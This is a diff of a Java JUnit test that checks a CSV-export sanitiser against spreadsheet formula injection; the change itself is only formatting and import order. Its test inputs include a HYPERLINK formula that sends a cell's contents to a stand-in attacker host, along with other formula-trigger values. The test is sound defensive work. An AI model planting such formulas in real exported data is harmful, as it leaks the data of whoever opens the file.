@@ -5,22 +5,26 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.StringWriter;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVPrinter;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.api.Test;
 
 class SafeCsvTest {
   @ParameterizedTest
-  @CsvSource(delimiter = '|', quoteCharacter = '"', value = {
-      "=HYPERLINK(\"http://evil.example/?\"&A1)|'=HYPERLINK(\"http://evil.example/?\"&A1)",
-      "@SUM(A1:A9)|'@SUM(A1:A9)",
-      "+cmd|'+cmd",
-      "-2+3|'-2+3",
-      "Mosul|Mosul",
-      "-36.5|-36.5",
-      "+12|+12",
-      "1e5|1e5",
-      "a=b|a=b"})
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '"',
+      value = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1)|'=HYPERLINK(\"http://evil.example/?\"&A1)",
+        "@SUM(A1:A9)|'@SUM(A1:A9)",
+        "+cmd|'+cmd",
+        "-2+3|'-2+3",
+        "Mosul|Mosul",
+        "-36.5|-36.5",
+        "+12|+12",
+        "1e5|1e5",
+        "a=b|a=b"
+      })
   void formulaCellsGetAnApostropheAndPlainValuesDoNot(String given, String written) {
     assertThat(SafeCsv.cell(given)).isEqualTo(written);
   }
